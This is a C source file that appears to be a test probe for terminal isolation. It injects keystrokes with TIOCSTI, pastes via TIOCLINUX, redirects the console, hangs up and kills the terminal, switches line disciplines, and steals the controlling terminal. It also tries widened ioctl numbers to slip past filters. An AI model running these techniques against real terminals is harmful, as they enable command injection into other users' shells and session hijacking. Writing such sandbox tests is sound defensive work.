/* tty_guest.c - what tty.sh runs on a terminal: goes at the terminal itself, and at who reads from it afterwards. No attack of attack.sh's kind. */
#include <fcntl.h>
#include <linux/tiocl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <termios.h>
#include <unistd.h>

#ifndef TIOCVHANGUP
#define TIOCVHANGUP 0x5437
#endif

static void type(int fd, const char *text)
{
	for (const char *p = text; *p; p++) {
		ioctl(fd, TIOCSTI, p);
		syscall(SYS_ioctl, fd, 0xabcd00000000L | TIOCSTI, p);
	}
}

static void paste(int fd)
{
	struct {
		char sub;
		struct tiocl_selection sel;
	} __attribute__((packed)) all = { TIOCL_SETSEL, { 1, 1, 80, 25, TIOCL_SELLINE } };
	char sub = TIOCL_PASTESEL;

	ioctl(fd, TIOCLINUX, &all);
	ioctl(fd, TIOCLINUX, &sub);
	syscall(SYS_ioctl, fd, 0x100000000L | TIOCLINUX, &sub);
}

static void at(int fd)
{
	static const int disciplines[] = { 27 /* N_NULL */, 2 /* N_MOUSE */, 3 /* N_PPP */, 15 /* N_HCI */, 21 /* N_GSM0710 */, 13 /* N_HDLC */ };
	int n = 0, on = 1;
	pid_t group = getppid();

	type(fd, "echo TYPED >&2\n");
	paste(fd);
	ioctl(fd, FIONREAD, &n);
	if (!getenv("ATTACK_NATIVE"))   /* it would be the machine's own console */
		ioctl(fd, TIOCCONS);
	ioctl(fd, TIOCVHANGUP);
	ioctl(fd, TIOCPKT, &on);
	ioctl(fd, TIOCSPTLCK, &on);
	ioctl(fd, TIOCSIG, SIGKILL);
	ioctl(fd, TIOCSPGRP, &group);
	for (size_t i = 0; i < sizeof disciplines / sizeof disciplines[0]; i++) {
		ioctl(fd, TIOCSETD, &disciplines[i]);
		syscall(SYS_ioctl, fd, 0x100000000L | TIOCSETD, &disciplines[i]);
	}
	ioctl(fd, TIOCEXCL);
	syscall(SYS_ioctl, fd, 0x100000000L | TIOCEXCL);
}

int main(void)
{
	struct winsize size = { .ws_row = 7, .ws_col = 13 };

	for (int s = 1; s < 32; s++)
		signal(s, SIG_IGN);
	int tty = open("/dev/tty", O_RDWR | O_NONBLOCK), named = open(ttyname(0) ? ttyname(0) : "/dev/null", O_RDWR | O_NOCTTY | O_NONBLOCK);

	ioctl(0, TIOCSWINSZ, &size);
	at(0);
	at(tty);
	at(named);
	/* as the leader of another session: steals it */
	if (fork() == 0) {
		setsid();
		ioctl(0, TIOCSCTTY, 1);
		at(0);
		at(tty);
		_exit(0);
	}
	usleep(200000);
	return 0;
}
